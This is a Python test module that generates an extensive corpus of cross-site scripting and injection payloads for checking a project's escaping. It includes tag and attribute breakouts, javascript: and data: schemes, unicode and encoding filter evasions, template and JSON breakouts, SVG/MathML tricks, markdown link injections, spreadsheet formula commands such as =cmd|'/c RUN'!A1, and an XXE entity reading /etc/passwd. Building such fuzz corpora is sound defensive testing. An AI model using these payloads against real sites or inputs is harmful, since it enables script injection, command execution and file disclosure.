"""Strings that would run a script, or break out of where they stand, wherever somebody forgot to escape them.

payloads() gives them with the call RUN in them; arm(text, n) puts pwned(n) in its place. Written for this project by kinds:
what ends the place they stand in, what runs a script there, and the ways to hide both from a filter.
"""

# What may have to be ended before markup is read as markup.
ENDINGS = ["", '">', "'>", "`>", "-->", "--!>", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>",
           "</svg>", "</math>", "</desc>", "</a>", "</template>", "</option></select>", '"/>', "*/", "?>", "}}", "%>", "</xmp>"]
RUNNERS = ["<script>RUN</script>", "<ScRiPt >RUN</sCrIpT>", "<img src=x onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN//",
           "<iframe srcdoc='<script>parent.RUN</script>'></iframe>", "<details open ontoggle=RUN>x</details>",
           "<input autofocus onfocus=RUN>"]

EVENTS = [("body", "onload"), ("body", "onpageshow"), ("video", "onerror src=x x"), ("audio", "onerror src=x x"), ("img", "onload src=data:, x"),
          ("image", "onerror src=x x"), ("object", "onerror data=x x"), ("embed", "onload src=x x"), ("link", "onerror rel=stylesheet href=x x"),
          ("script", "onerror src=x x"), ("style", "onload"), ("iframe", "onload"), ("select", "onfocus autofocus x"), ("textarea", "onfocus autofocus x"),
          ("button", "onfocus autofocus x"), ("a", "onmouseover"), ("p", "onclick"), ("div", "onpointerenter"), ("b", "oncontextmenu"),
          ("marquee", "onstart"), ("form", "onsubmit"), ("track", "onerror src=x x"), ("source", "onerror src=x x"), ("table", "onscroll"),
          ("x", "onfocusin tabindex=0 autofocus x"), ("x", "onanimationstart style=animation:a x"), ("dialog", "oncancel open x"),
          ("meter", "onmouseenter"), ("slot", "onslotchange"), ("area", "onclick href=# x"), ("isindex", "onfocus autofocus x"), ("keygen", "onfocus autofocus x"),
          ("frameset", "onload"), ("input", "onblur autofocus x"), ("video", "oncanplay"), ("svg", "onfocus tabindex=1 autofocus x")]
QUOTINGS = ["<{0} {1}=RUN>", "<{0} {1}=\"RUN\">", "<{0}\n{1}='RUN'>", "<{0}/{1}=RUN//"]

SCHEMES = ["javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\tjavascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "javascript\t:RUN",
           "javascript:RUN//http://x", "javascript://%0aRUN", "javascript://x/%0D%0ARUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN",
           "&#0000106avascript:RUN", "java&Tab;script:RUN", "java&NewLine;script:RUN", "javascript&colon;RUN", "&#1;javascript:RUN", "%6aavascript:RUN",
           "javascript%3ARUN", "jav%61script:RUN", "java\\script:RUN", "\\javascript:RUN", "x:javascript:RUN", "view-source:javascript:RUN",
           "vbscript:RUN", "livescript:RUN", "mocha:RUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=",
           "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>", "DATA:text/html,<img src=x onerror=RUN>", "data:,RUN",
           "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>", "blob:RUN", "filesystem:RUN", "file:///etc/passwd?RUN",
           "//example.com/RUN", "///example.com/RUN", "\\\\example.com\\RUN", "/\\example.com/RUN", "http:example.com/RUN", "https:/RUN", "http://RUN@example.com",
           "http://[::1/RUN", "../../../RUN", "..\\..\\RUN", "%2e%2e/RUN", ".%2e/RUN", "?RUN", "#RUN", "#\"onclick=RUN x=\"", "mailto:x?body=<script>RUN</script>",
           "mailto:\"onclick=RUN\"@x", "tel:RUN", "jar:http://x!/RUN", "feed:javascript:RUN", "ws://x/RUN", "about:blank#RUN", "intent:RUN#Intent;end",
           "javascript:/*--></title></style></textarea></script><svg onload=RUN>", "ｊavascript:RUN", "javascript：RUN", "java\u200bscript:RUN", "\ufeffjavascript:RUN",
           "\u00a0javascript:RUN", "\u2028javascript:RUN", "java\u00adscript:RUN", "javas\u0441ript:RUN", "javascript:alert`RUN`", "javascript:void(RUN)"]

BREAKOUTS = ['" onmouseover=RUN x="', "' onmouseover=RUN x='", "` onmouseover=RUN x=`", "x onmouseover=RUN", "\" autofocus onfocus=RUN x=\"", "' autofocus onfocus=RUN '",
             "\"\nonfocus=RUN autofocus\n\"", "\"/onfocus=RUN/autofocus/\"", "\" style=\"animation:x\" onanimationstart=\"RUN", "&quot; onfocus=RUN autofocus x=&quot;",
             "&#34; onfocus=RUN autofocus x=&#34;", "&#x22;&gt;<svg onload=RUN>", "\\\" onfocus=RUN autofocus x=\\\"", "\\' onfocus=RUN autofocus x=\\'",
             "“ onfocus=RUN autofocus x=”", "« onfocus=RUN »", "＂ onfocus=RUN autofocus x=＂", "ʺ onfocus=RUN autofocus", "\u02ba><svg onload=RUN>", "&amp;quot; onfocus=RUN",
             "\" href=\"javascript:RUN", "\" src=\"javascript:RUN", "\" srcset=\"x onerror=RUN", "x 1w, javascript:RUN 2w", "x\" onerror=\"RUN", "x' onerror='RUN",
             "\"><a href=javascript:RUN>x</a>", "\" formaction=javascript:RUN type=submit x=\"", "\" http-equiv=refresh content=\"0;url=javascript:RUN", "=RUN", "\" data-x='><svg onload=RUN>'",
             "\" id=\"main\" onclick=\"RUN", "\" name=\"body", "\" class=\"hidden\" onclick=\"RUN", "\" lang=\"\"><svg onload=RUN>", "\" dir=rtl onfocus=RUN autofocus \""]

STYLES = ["</style><svg onload=RUN>", "x:expression(RUN)", "background:url(javascript:RUN)", "}*{background:url('javascript:RUN')}", "@import 'javascript:RUN';",
          "<style>@import url(data:text/css,*{color:red});</style>RUN", "<link rel=stylesheet href=data:text/css,RUN>", "<div style=\"background:url(//example.com/RUN)\">",
          "behavior:url(RUN)", "-moz-binding:url(RUN)", "\\3c script>RUN", "<style onload=RUN>", "/*RUN*/", "a{}</style><script>RUN</script>", "--x:</style><img src=x onerror=RUN>",
          "<style><!--</style><script>RUN//--></script>", "<style>*{content:'</style><img src=x onerror=RUN>'}</style>", "url(data:image/svg+xml,<svg onload=RUN>)"]

TEMPLATES = ["{{RUN}}", "{{{RUN}}}", "{{&RUN}}", "{{{title}}}RUN", "{{&site_title}}RUN", "{{#.}}RUN{{/.}}", "{{^x}}<svg onload=RUN>{{/x}}", "{{>page}}RUN", "{{>figure}}RUN", "{{!RUN}}",
             "{{=<% %>=}}<%RUN%>", "{{=| |=}}|{RUN}|", "{{#main}}RUN", "{{/main}}RUN", "}}RUN{{", "}}}<svg onload=RUN>{{{", "{{ '<svg onload=RUN>' }}", "{{constructor.constructor('RUN')()}}",
             "${RUN}", "#{RUN}", "<%= RUN %>", "<?php RUN ?>", "<?= RUN ?>", "{%RUN%}", "[[RUN]]", "@{RUN}", "{RUN}", "{0}RUN", "{n, plural, one {RUN} other {<svg onload=RUN>}}", "%{RUN}", "$RUN$", "__RUN__",
             "{{#sections}}{{{.}}}{{/sections}}RUN", "{{\nRUN\n}}", "{ {RUN} }"]

JSONS = ['"}</script><script>RUN</script>', '"];RUN;["', '"};RUN;{"', "'};RUN;//", "\\\"};RUN//", '\\u003cscript\\u003eRUN\\u003c/script\\u003e', '"+RUN+"', "'+RUN+'", "`${RUN}`", "\u2028RUN//",
         "\u2029RUN//", "*/RUN/*", "//\nRUN", "<!--<script>RUN", "</script><!--RUN", '{"__proto__":{"onload":"RUN"}}', "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty",
         '","x":"<svg onload=RUN>', "\\x3cscript\\x3eRUN", "\\", "\\\\", "\\\"", "\\u0000RUN", "\\ud800RUN", "null,RUN", "]}RUN", "[1](RUN)", "(()=>RUN)()", ");RUN;(", "\\');RUN;//", "0;RUN", "1e999RUN", "</ScRiPt\t><script>RUN</script>"]

LETTERS = ["＜script＞RUN＜/script＞", "‹script›RUN‹/script›", "\u202e>tpircs<RUN\u202c", "\u2066<script>RUN</script>\u2069", "<\u200bscript>RUN</script>", "<scr\u00adipt>RUN</scr\u00adipt>",
           "<script\u2028>RUN</script>", "\ufeff<script>RUN</script>", "<ſcript>RUN</ſcript>", "<ıframe onload=RUN>", "<img src=x onerror\u00a0=RUN>", "<img\u3000src=x onerror=RUN>", "<\u0131mg src=x onerror=RUN>",
           "\u0301<svg onload=RUN>", "<svg\u0301 onload=RUN>", "\U000e003cscript\U000e003eRUN", "\U0001f600<svg onload=RUN>", "<svg onload=RUN>\U0001f468\u200d\U0001f469\u200d\U0001f467",
           "\u0628<svg onload=RUN>\u0628", "𝓻<script>RUN</script>", "\u1680<svg onload=RUN>", "\u180e<svg onload=RUN>", "¼script¾RUN¼/script¾", "\u00ad\"><svg onload=RUN>", "%EF%BC%9Cscript%EF%BC%9ERUN",
           "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\u2044\u2044<svg onload=RUN>", "\ufffd<svg onload=RUN>", "\ufffd\ufffd\"><svg onload=RUN>", "x" + "\u0300" * 60 + "<svg onload=RUN>", "ａ＂ onfocus=RUN autofocus"]

NOTHINGS = ["null", "undefined", "NaN", "Infinity", "-0", "true", "false", "nil", "None", "(null)", "N/A", "%00<svg onload=RUN>", "\\0<svg onload=RUN>", "&#0;<svg onload=RUN>", "%s%s%n%x RUN", "%d%100000s RUN",
            "%p RUN", "~", "!!js/function 'RUN'", "*RUN", "&RUN", "- RUN", "? RUN", ": RUN", "| RUN", "> <svg onload=RUN>", "---RUN", "...RUN", "# RUN", "[RUN", "{RUN", "@RUN", "`RUN`", "'RUN", "\"RUN", "=RUN", "+RUN", "-RUN",
            "=HYPERLINK(\"javascript:RUN\")", "=cmd|'/c RUN'!A1", "@SUM(1)*RUN", "+1+RUN", "-1+RUN|x", "\t=RUN", "' OR 1=1; RUN", "$(RUN)", "`RUN`;", "; RUN", "| RUN |", "&& RUN", "../RUN", "C:\\RUN", "CON", "RUN\n\nRUN"]

COMMENTS = ["<!--RUN-->", "<!--><svg onload=RUN>-->", "<!---><svg onload=RUN>", "<!-- --!><svg onload=RUN>", "<![CDATA[<svg onload=RUN>]]>", "<![CDATA[", "]]><svg onload=RUN>", "<!DOCTYPE x [<!ENTITY y 'RUN'>]>&y;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>RUN",
            "<?xml version='1.0'?><svg onload=RUN>", "<?xml-stylesheet href='javascript:RUN'?>", "<!x><svg onload=RUN>", "</ x><svg onload=RUN>", "<//x onclick=RUN>", "<%<svg onload=RUN>%>", "<!--[if IE]><script>RUN</script><![endif]-->",
            "<comment><svg onload=RUN></comment>", "<xmp><svg onload=RUN></xmp>", "<plaintext>RUN", "<noscript><p title='</noscript><svg onload=RUN>'>", "<listing><svg onload=RUN></listing>", "&lt;script&gt;RUN&lt;/script&gt;", "&lt;svg onload=RUN&gt;",
            "&amp;lt;svg onload=RUN&amp;gt;", "&#60;svg onload=RUN&#62;", "&#x3c;svg onload=RUN&#x3e;", "&LT;svg onload=RUN&GT;", "&lt svg onload=RUN", "&nvlt;RUN"]

FRAMES = ["<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>opener.RUN</script>'>", "<base href=javascript:RUN//>", "<base href=//example.com/>RUN",
          "<iframe src=javascript:parent.RUN></iframe>", "<iframe src='data:text/html,<script>parent.RUN</script>'></iframe>", "<object data=javascript:RUN></object>", "<embed src=javascript:RUN>", "<form action=javascript:RUN><button autofocus>x</button></form>",
          "<form><button formaction=javascript:RUN>x</button></form>", "<input type=image src=x onerror=RUN>", "<isindex action=javascript:RUN type=image>", "<frameset><frame src=javascript:RUN></frameset>", "<link rel=import href=data:text/html,RUN>",
          "<link rel=preload href=//example.com/RUN as=script>", "<link rel=dns-prefetch href=//RUN.example.com>", "<a href=javascript:RUN>x</a>", "<a href=javascript:RUN target=_blank>x</a>", "<a ping=//example.com/RUN href=#>x</a>", "<area href=javascript:RUN>",
          "<applet code=RUN></applet>", "<portal src=javascript:RUN>", "<template><script>RUN</script></template>", "<template shadowrootmode=open><img src=x onerror=RUN></template>", "<video poster=javascript:RUN></video>", "<video><source onerror=RUN src=x></video>",
          "<table background=javascript:RUN>", "<body background=javascript:RUN>", "<bgsound src=javascript:RUN>", "<script type=module>RUN</script>", "<script src=data:,RUN></script>", "<script type=importmap>{\"imports\":{\"x\":\"data:,RUN\"}}</script>",
          "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=RUN>y</p>", "<a id=config name=RUN>clobber</a>", "<form name=body><input name=firstChild>RUN</form>", "<img name=pwned id=getElementById>"]

DRAWINGS = ["<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN /></svg>", "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributeName=x to=1>",
            "<svg><animate attributeName=href values=javascript:RUN /><a id=x><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN>#x'/></svg>", "<svg><foreignObject><body onload=RUN></foreignObject></svg>", "<svg><image href=x onerror=RUN></svg>",
            "<svg><style>*{}</style><script>RUN</script></svg>", "<svg><title><script>RUN</script></title></svg>", "<svg><desc><img src=x onerror=RUN></desc></svg>", "<svg><p><style><img title='</style><img src=x onerror=RUN>'></svg>", "</title></svg><svg onload=RUN>",
            "</text></svg><img src=x onerror=RUN>", "\" fill=\"red\" onclick=\"RUN", "<math href=javascript:RUN>x</math>", "<math><mtext><img src=x onerror=RUN></mtext></math>", "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
            "<math><mi><style><img src=x onerror=RUN></style></mi></math>", "<math><mglyph><style><img title='</style><img src=x onerror=RUN>'>", "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>", "<svg><handler xmlns:ev=x ev:event=load>RUN</handler></svg>",
            "<svg><discard onbegin=RUN>", "<svg><metadata><script>RUN</script></metadata></svg>", "<svg><switch><script>RUN</script></switch></svg>", "<svg><textPath onclick=RUN>x</textPath></svg>", "<svg><feImage href=javascript:RUN /></svg>"]

WRITING = ["[x](javascript:RUN)", "[x](<javascript:RUN>)", "[x]( javascript:RUN)", "[x](javascript&colon;RUN)", "[x](&#106;avascript:RUN)", "[x](JAVASCRIPT:RUN \"t\")", "[x](# \"t' onclick=RUN\")", "[x](# 'a\" onclick=RUN x=\"')", "![x](javascript:RUN)", "![x\" onerror=RUN y=\"](x)",
           "![x](x \"onerror=RUN\")", "<javascript:RUN>", "<data:text/html,RUN>", "<https://x\"onclick=RUN>", "<x@y\"onclick=RUN>", "[x]: javascript:RUN\n\n[x]", "[a]: <javascript:RUN> \"t\"\n\n[a][a]", "[x](\\javascript:RUN)", "[<script>RUN</script>](#)", "[`<svg onload=RUN>`](#)",
           "```\n</code></pre><svg onload=RUN>\n```", "```\"><svg onload=RUN>\nx\n```", "~~~ html onload=RUN\n<svg onload=RUN>\n~~~", "    <svg onload=RUN>", "`</code><svg onload=RUN>`", "# <svg onload=RUN>", "# x {#a onclick=RUN}", "## \"><svg onload=RUN>", "* <svg onload=RUN>",
           "> <svg onload=RUN>", "**<svg onload=RUN>**", "<b onclick=RUN>x</b>", "\\<svg onload=RUN>", "&lt;svg onload=RUN&gt;", "<div\nonclick=RUN\n>x</div>", "| a |\n|---|\n| <svg onload=RUN> |", "[x](data:text/html;base64,PHN2ZyBvbmxvYWQ9UlVOPg==)", "[x](//example.com/RUN)",
           "[x](\tjavascript:RUN)", "[x](vbscript:RUN)", "[x](file:///RUN)", "![x](data:image/svg+xml,<svg onload=RUN>)", "[![x](x)](javascript:RUN)", "<a href=\"javascript:RUN\">x</a>", "[x](https://RUN\"onclick=RUN)", "***RUN", "[^1]: <svg onload=RUN>"]


def payloads():
    """All of them, each once, in a fixed order. Before a note in <!-- --> stands a letter: notes go to no one, and a value that is
    nothing else is empty."""
    found = [end + run for end in ENDINGS for run in RUNNERS]
    found += [quoting.format(tag, event) for tag, event in EVENTS for quoting in QUOTINGS]
    for kind in (SCHEMES, BREAKOUTS, STYLES, TEMPLATES, JSONS, LETTERS, NOTHINGS, COMMENTS, FRAMES, DRAWINGS, WRITING):
        found += kind
    return ["x" + p if p.startswith("<!--") else p for p in dict.fromkeys(found)]


def arm(text, n):
    return text.replace("RUN", f"pwned({n})")


# What no text may contain: refused with the place, whatever stands around it.
REFUSED = [chr(c) + "<svg onload=RUN>" for c in (0, 1, 2, 7, 8, 0x0B, 0x0C, 0x0E, 0x1B, 0x7F)]
